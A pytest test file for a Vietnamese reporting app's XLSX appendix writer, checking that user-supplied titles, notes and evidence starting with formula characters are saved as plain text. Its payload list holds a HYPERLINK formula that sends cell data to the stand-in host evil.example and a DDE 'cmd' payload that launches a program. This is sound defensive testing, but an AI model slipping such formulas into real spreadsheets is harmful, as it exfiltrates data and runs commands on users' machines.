"""Formula injection in the XLSX appendix (notifiers/appendix_files.py): titles,
sections, evidence and notes are users' text; a cell beginning with "=", "+", "-",
"@", a tab or a carriage return must be written as text, its visible value unchanged,
and the sheet must hold no formula at all."""
from __future__ import annotations

import re
import zipfile
from datetime import datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from config.loader import load_config
from domain.report import APPENDIX_HEADERS
from notifiers.appendix_files import write_appendix
from store.db import session_scope
from store.models import Task
from store.report_loading import appendix_data
from tests.test_report_seed import PLAN, insert_seed_plan, task_id

APRIL_10 = datetime(2026, 4, 10, 9, 0, tzinfo=timezone(timedelta(hours=7)))
EXFILTRATE = '=HYPERLINK("http://evil.example/?d="&B5,"Xem")'
PAYLOADS = [EXFILTRATE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def formulas(path) -> list[str]:
    """The <f> elements of every sheet of the saved file."""
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [m for n in sheets for m in re.findall(r"<f[\s>/][^<]*", z.read(n).decode())]


def cells(path) -> dict[str, object]:
    ws = load_workbook(path).active
    return {c.coordinate: c for row in ws.iter_rows() for c in row if c.value is not None}


def assert_text(cell, value) -> None:
    assert (cell.value, cell.data_type) == (value, "s"), cell.coordinate


@pytest.fixture
def poisoned(sqlite_url) -> str:
    """The seed plan with task 13 (completed, with evidence) and task 14 poisoned."""
    insert_seed_plan(sqlite_url)
    with session_scope(sqlite_url) as s:
        t13 = s.get(Task, task_id(13))
        t13.title = EXFILTRATE
        t13.evidence = {**t13.evidence, "summary": EXFILTRATE, "document_number": "-13/KH-UBND"}
        t13.notes = "@SUM(A1:A9)"
        s.get(Task, task_id(14)).section = "=1+1 Mục độc hại"
    return sqlite_url


def test_report_appendix_writes_payloads_as_text(poisoned, tmp_path):
    """Through `report appendix`'s own path: appendix_data, then write_appendix."""
    appendix = appendix_data(poisoned, load_config(), PLAN, APRIL_10)
    title = "+Phụ lục kết quả — " + PLAN
    path = write_appendix(appendix.rows, "xlsx", tmp_path / "pl.xlsx", title, appendix.totals)
    assert formulas(path) == []
    found = cells(path)
    assert_text(found["A1"], title)
    row = next(c.row for c in found.values() if c.value == "13" and c.column == 1)
    col = {h: i + 1 for i, h in enumerate(APPENDIX_HEADERS)}
    by_col = {c.column: c for c in found.values() if c.row == row}
    assert_text(by_col[2], EXFILTRATE)
    assert_text(by_col[col["Trích yếu nội dung văn bản"]], EXFILTRATE)
    assert_text(by_col[col["Số ký hiệu văn bản"]], "-13/KH-UBND")
    assert_text(by_col[len(APPENDIX_HEADERS)], "@SUM(A1:A9)")
    assert any(c.value == "=1+1 Mục độc hại" and c.data_type == "s" for c in found.values())
    numbers = [c for c in found.values() if isinstance(c.value, int)]
    assert numbers and all(c.data_type == "n" for c in numbers)   # the totals stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_written_as_text(payload, tmp_path):
    row = ["1", payload] + [""] * (len(APPENDIX_HEADERS) - 4) + [payload, payload]
    totals = [("total", payload, 1)]
    path = write_appendix([payload, row], "xlsx", tmp_path / "pl.xlsx", payload, totals)
    assert formulas(path) == []
    found = cells(path)
    for ref in ("A1", "A4", "B5", "L5", "M5", "A7"):
        assert_text(found[ref], payload)
        assert found[ref].quotePrefix        # Excel keeps it text when the cell is edited
    assert found["H7"].value == 1 and found["H7"].data_type == "n"


def test_ordinary_text_is_untouched(tmp_path):
    row = ["1", "Xây dựng kế hoạch", "", "", "", "", "", "Hoàn thành đúng hạn", "", "13/KH-UBND", "", "", ""]
    path = write_appendix([row], "xlsx", tmp_path / "pl.xlsx", "Phụ lục")
    found = cells(path)
    assert_text(found["B4"], "Xây dựng kế hoạch")
    assert not found["B4"].quotePrefix
